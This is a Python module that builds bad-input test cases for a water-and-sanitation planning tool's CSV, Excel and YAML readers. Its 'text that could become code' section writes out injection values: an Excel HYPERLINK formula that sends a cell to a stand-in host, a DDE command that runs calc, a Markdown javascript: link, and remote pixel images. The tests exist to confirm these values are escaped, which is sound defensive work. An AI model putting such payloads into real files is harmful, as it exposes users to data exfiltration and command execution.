"""Bad-input cases of issue 12 §3/§4/§5/§7 (what people and Excel write, inputs that contradict
each other, text that could become code, size): built by tools/make_bad_inputs.py.

Each case is the fixture with ONE defect (or one harmless variant that must read to the same
numbers). `m` is the make_bad_inputs module (Case, P, fixture access).
"""

from __future__ import annotations

from pathlib import Path
from typing import Any

WATER = "hh_water_piped_premises,hh_water_public_tap"
TACABAMBA = "060417"  # the real district whose bounding box holds the fixture's coordinates


def cases(m: Any) -> list:
    Case, P, COMM, SYS = m.Case, m.P, m.COMM, m.SYS
    C, S = m.read_rows(COMM), m.read_rows(SYS)
    txt = m.fixture_params_text()
    cf, sf, pf = "communities.csv", "water_systems.csv", "fixture.yaml"
    data = Path("data/fixture")
    out: list = []
    add = out.append
    csv = m.rows_to_csv

    # ------------------------------------------------------------------ §3 text that could become code
    for name, cid, value, descr in (
        ("formula_in_name", "C1", '=HYPERLINK("http://e.vil/?"&A1,"clic")', "an Excel HYPERLINK formula as a name"),
        ("dde_in_name", "C2", "=cmd|' /C calc'!A0", "a DDE command (runs a program in old Excel) as a name"),
        ("markdown_link_in_name", "C1", "[clic](javascript:alert(3))", "a Markdown javascript: link as a name"),
        ("markdown_image_in_name", "C3", "![p](http://e.vil/pixel.png)", "a Markdown remote image as a name"),
    ):
        row = {"C1": 2, "C2": 3, "C3": 4}[cid]
        add(Case(name, "code_in_text", f"{descr}: read verbatim; a string cell in tables.xlsx, a quoted cell in "
                 "the CSVs, literal text on every page", outcome="escaped", names={cid: value})
            .table(COMM, m.set_cell(C, row, "name", value)))
    add(Case("markdown_in_vision", "code_in_text", "vision and an objective with a Markdown javascript: link and a "
             "remote image: read verbatim, shown literally in the strategy report", outcome="accepted",
             params_expected={"workshop.vision": "[clic](javascript:alert(3)) ![p](http://e.vil/p.png)",
                              "workshop.objectives[0]": "<b>[x](http://e.vil)</b>"})
        .params(txt.replace('vision: "Every family in the district has safe water and a toilet, run by strong JASS."',
                            "vision: '[clic](javascript:alert(3)) ![p](http://e.vil/p.png)'")
                .replace('objectives: ["Rehabilitate failing systems",', "objectives: ['<b>[x](http://e.vil)</b>',")))

    # ------------------------------------------------------------------ §4 inputs that contradict each other
    piped = m.set_cell(m.set_cell(C, 4, "hh_water_unprotected", "0"), 4, "hh_water_piped_premises", "6")
    add(Case("piped_without_system", "contradiction", "C3 has 6 households on piped water but no system serves C3",
             problems=[P(cf, "community C3: households on piped water (premises or public tap) but no row of "
                         "water_systems.csv has this community_id", 4, WATER, "6")])
        .table(COMM, piped))
    add(Case("piped_no_system_at_all", "contradiction", "water_systems.csv has a header and no system, while C1 "
             "and C2 have piped households",
             problems=[P(cf, "community C1: households on piped water (premises or public tap) but "
                         "water_systems.csv has no water system at all", 2, WATER, "23"),
                       P(cf, "community C2: households on piped water", 3, WATER, "10")])
        .table(SYS, S[:1]))
    add(Case("census_future_year", "contradiction", "a census year 2099 (typo for 2009?)",
             problems=[P(pf, "census year in the future", None, "census.2099", "2099")])
        .params(txt.replace("census: {2007: 1000, 2017: 1100}", "census: {2007: 1000, 2017: 1100, 2099: 1200}")))
    add(Case("census_growth_typo", "contradiction", "census 2017 typed with two zeros too many (110000 for 1100): "
             "+60.0 %/year, refused (the projection would give 36 M people)",
             problems=[P(pf, "growth +60.0 %/year from 2007 (1000) to 2017 (110000) is beyond ±5 %/year "
                         "(inputs.max_growth_per_year)", None, "census.2017", "110000")])
        .params(txt.replace("census: {2007: 1000, 2017: 1100}", "census: {2007: 1000, 2017: 110000}")))
    add(Case("census_decline_typo", "contradiction", "census 2007 with a zero too many: -19.8 %/year, refused",
             problems=[P(pf, "growth -19.8 %/year from 2007 (10000) to 2017 (1100)", None, "census.2017", "1100")])
        .params(txt.replace("census: {2007: 1000, 2017: 1100}", "census: {2007: 10000, 2017: 1100}")))
    add(Case("census_growth_explained", "contradiction", "fast growth (+7.2 %/year) explained in census_note: "
             "accepted", outcome="accepted",
             params_expected={"census_note": "boundary change in 2010 added the annex of X"})
        .params(txt.replace("census: {2007: 1000, 2017: 1100}",
                            'census: {2007: 550, 2017: 1100}\ncensus_note: "boundary change in 2010 added the annex of X"')))
    swapped = m.set_cell(m.set_cell(C, 2, "latitude", "-78.60"), 2, "longitude", "-6.38")
    real = (txt.replace('ubigeo: "999999"', f'ubigeo: "{TACABAMBA}"').replace("name: Distrito de prueba", "name: Tacabamba")
            .replace("province: Prueba", "province: Chota"))
    add(Case("coordinates_swapped", "coordinates", "C1 latitude and longitude swapped (district 060417, "
             "Tacabamba, whose box holds the fixture): read, with a warning naming the row", outcome="accepted",
             warnings=[P(cf, "outside district 060417's bounding box", 2, "latitude,longitude", "-78.6, -6.38"),
                       P(cf, "latitude and longitude swapped?", 2)])
        .table(COMM, swapped).params(real))
    add(Case("coordinates_sign_lost", "coordinates", "C2 latitude typed without its minus sign: a warning",
             outcome="accepted", warnings=[P(cf, "a sign lost?", 3, "latitude,longitude", "6.4, -78.62")])
        .table(COMM, m.set_cell(C, 3, "latitude", "6.40")).params(real))
    add(Case("coordinates_inside", "coordinates", "the fixture's coordinates inside district 060417's box: no "
             "warning about coordinates", outcome="reads_ok").params(real))
    add(Case("round_folder_five_digits", "rounds", "a round folder named 02018 (read as 2018 before, replacing "
             "rounds/2018)", problems=[P("rounds/02018/", "a round folder is named by its 4-digit year", None, None,
                                          "02018")])
        .put(data / "rounds" / "02018" / "communities.csv", csv(C))
        .put(data / "rounds" / "02018" / "water_systems.csv", csv(S)))
    add(Case("round_unknown_community", "rounds", "rounds/2018 lists community C9, unknown to the baseline",
             problems=[P("rounds/2018/communities.csv", "community id not in the baseline communities table", 4,
                         "community_id", "C9")])
        .put(data / "rounds" / "2018" / "communities.csv", csv(m.set_cell(C, 4, "community_id", "C9")))
        .put(data / "rounds" / "2018" / "water_systems.csv", csv(S)))
    add(Case("round_piped_without_system", "rounds", "rounds/2018: C3 now on piped water with no system in the "
             "round or the baseline",
             problems=[P("rounds/2018/communities.csv", "community C3: households on piped water", 4, WATER, "6")])
        .put(data / "rounds" / "2018" / "communities.csv", csv(piped))
        .put(data / "rounds" / "2018" / "water_systems.csv", csv(S)))

    def beyond(ws):
        ws["X3"] = "nota"

    c = Case("excel_value_beyond_header", "excel", "communities.xlsx: a value in column X (no header) of row 3",
             problems=[P("communities.xlsx", "value beyond the header's last column", 3, "X", "nota",
                         sheet="communities")])
    c.skip = ["data/fixture/communities.csv"]
    c.xlsx = [("communities.xlsx", C, "communities", beyond)]
    add(c)

    def formula_rate(ws):
        ws["E2"] = "=0.5+0.061"  # poverty_rate of C1; openpyxl stores no result, as other programs do

    c = Case("excel_formula_without_value", "excel", "communities.xlsx: poverty_rate of C1 is the formula "
             "=0.5+0.061 with no saved result (read as unknown before)",
             problems=[P("communities.xlsx", "formula without a saved value: open and save the file in Excel or "
                         "LibreOffice", 2, "poverty_rate", "=0.5+0.061", sheet="communities")])
    c.skip = ["data/fixture/communities.csv"]
    c.xlsx = [("communities.xlsx", C, "communities", formula_rate)]
    add(c)

    def formula_name(ws):
        ws["B3"] = '=CONCATENATE("Bajo ","Chalán")'

    c = Case("excel_formula_name", "excel", "communities.xlsx: the name of C2 is a formula with no saved result "
             "(reported as 'value required' before)",
             problems=[P("communities.xlsx", "formula without a saved value", 3, "name",
                         '=CONCATENATE("Bajo ","Chalán")', sheet="communities")])
    c.skip = ["data/fixture/communities.csv"]
    c.xlsx = [("communities.xlsx", C, "communities", formula_name)]
    add(c)

    # ------------------------------------------------------------------ §5 what Excel and people write
    base = csv(C)
    add(Case("trailing_blank_lines", "excel_writes", "three blank lines after the last record", outcome="reads_ok")
        .put(data / "communities.csv", base + "\n\n\n"))
    add(Case("trailing_separator_rows", "excel_writes", "two rows of bare commas after the last record (Excel "
             "writes them for rows once used)", outcome="reads_ok")
        .put(data / "communities.csv", base + "," * (len(C[0]) - 1) + "\n" + "," * (len(C[0]) - 1) + "\n"))
    add(Case("semicolon_separator_rows", "excel_writes", "Spanish Excel ';' file ending in rows of bare ';'",
             outcome="reads_ok")
        .put(data / "communities.csv", m.spanish(C) + ";" * (len(C[0]) - 1) + "\n\n"))
    add(Case("cr_line_endings", "excel_writes", "old Mac/Excel 'CSV (Macintosh)': CR-only line endings "
             "(a _csv.Error traceback before)", outcome="reads_ok")
        .put(data / "communities.csv", base.replace("\n", "\r")))
    add(Case("crlf_line_endings", "excel_writes", "Windows CRLF line endings", outcome="reads_ok")
        .put(data / "communities.csv", base.replace("\n", "\r\n")))
    add(Case("empty_trailing_columns", "excel_writes", "two empty columns after 'source' (header and rows end "
             "with ',,')", outcome="reads_ok")
        .put(data / "communities.csv", "".join(line + ",,\n" for line in base.splitlines())))
    wide = [r + [""] for r in C]
    wide[2][-1] = "nota"
    add(Case("csv_value_beyond_header", "excel_writes", "an empty header cell after 'source' and a note under it "
             "in row 3", problems=[P(cf, "row 3, field 23: value 'nota' is beyond the header's last column")])
        .put(data / "communities.csv", csv(wide)))
    dot = m.rows_to_csv(m.set_cell(C, 2, "poverty_rate", "0.561"), sep=";")
    add(Case("semicolon_dot_decimals", "decimal_mark", "a ';' file whose numbers use '.' consistently: 0.561 read "
             "as 0.561 (refused as a thousands separator before)", outcome="accepted",
             cells=[{"table": "communities", "id": "C1", "column": "poverty_rate", "value": 0.561},
                    {"table": "communities", "id": "C2", "column": "latitude", "value": -6.40}])
        .put(data / "communities.csv", dot))
    tab = m.rows_to_csv(C, sep="\t")
    add(Case("tab_separated", "decimal_mark", "tab-separated file, '.' decimals", outcome="reads_ok")
        .put(data / "communities.csv", tab))
    add(Case("tab_thousands_dot", "decimal_comma_thousands", "tab-separated, altitude 2700 written '2.700' by a "
             "Spanish-locale Excel (read as 2.7 m before): refused",
             problems=[P(cf, "thousands separators are not accepted", 2, "altitude_m", "2.700")])
        .put(data / "communities.csv", m.rows_to_csv(m.set_cell(C, 2, "altitude_m", "2.700"), sep="\t")))
    upper = Case("upper_case_extension", "file_name", "communities.CSV (extension in capitals, as Windows shows it)",
                 outcome="reads_ok").put(data / "communities.CSV", base)
    upper.skip = ["data/fixture/communities.csv"]
    add(upper)
    cap = Case("capitalised_file_name", "file_name", "Communities.csv and Water_Systems.csv", outcome="reads_ok")
    cap.put(data / "Communities.csv", base).put(data / "Water_Systems.csv", csv(S))
    cap.skip = ["data/fixture/communities.csv", "data/fixture/water_systems.csv"]
    add(cap)
    other = Case("file_name_suffix", "file_name", "only communities_final.csv: the message names the file found",
                 problems=[P("communities", "found communities_final.csv: rename it to communities.csv")])
    other.put(data / "communities_final.csv", base)
    other.skip = ["data/fixture/communities.csv"]
    add(other)
    add(Case("utf16_no_bom", "encoding", "communities.csv in UTF-16 without a byte-order mark ('decimal comma "
             "splits numbers' before)", problems=[P(cf, "UTF-16 text without a byte-order mark")])
        .put(data / "communities.csv", base, encoding="utf-16-le"))
    add(Case("utf32_no_bom", "encoding", "communities.csv in UTF-32 without a byte-order mark",
             problems=[P(cf, "UTF-32 text without a byte-order mark (or not text at all); save it as UTF-8")])
        .put(data / "communities.csv", base, encoding="utf-32-le"))
    add(Case("utf32_bom", "encoding", "communities.csv in UTF-32 with its byte-order mark: read",
             outcome="reads_ok").put(data / "communities.csv", base, encoding="utf-32"))
    add(Case("utf16_bom", "encoding", "communities.csv in UTF-16 with its byte-order mark (Excel 'Unicode text' "
             "with commas): read", outcome="reads_ok").put(data / "communities.csv", base, encoding="utf-16"))
    na = m.set_cell(m.set_cell(m.set_cell(C, 2, "name", "NA"), 3, "name", "None"), 4, "name", "N/A")
    add(Case("na_names", "missing_tokens", "communities named NA, None and N/A: names, not missing values",
             outcome="escaped", names={"C1": "NA", "C2": "None", "C3": "N/A"}).table(COMM, na))
    add(Case("na_id", "missing_tokens", "a community id 'NA' (and the systems pointing at it): an id",
             outcome="escaped", names={"NA": "Alto Perú"})
        .table(COMM, m.set_cell(C, 2, "community_id", "NA"))
        .table(SYS, m.set_cell(m.set_cell(S, 2, "community_id", "NA"), 3, "community_id", "NA")))

    # ------------------------------------------------------------------ §7 size
    limit = (m.FIX / "params" / "defaults.yaml").read_text(encoding="utf-8").replace(
        "  max_rows: 50000", "  max_rows: 2")
    add(Case("too_many_rows", "size", "3 communities with inputs.max_rows = 2 (the default is 50,000): refused "
             "before parsing, with the limit and the key",
             problems=[P(cf, "3 data rows, more than the limit of 2 (inputs.max_rows"),
                       P(sf, "4 data rows, more than the limit of 2 (inputs.max_rows")])
        .put(Path("params/defaults.yaml"), limit))
    return out
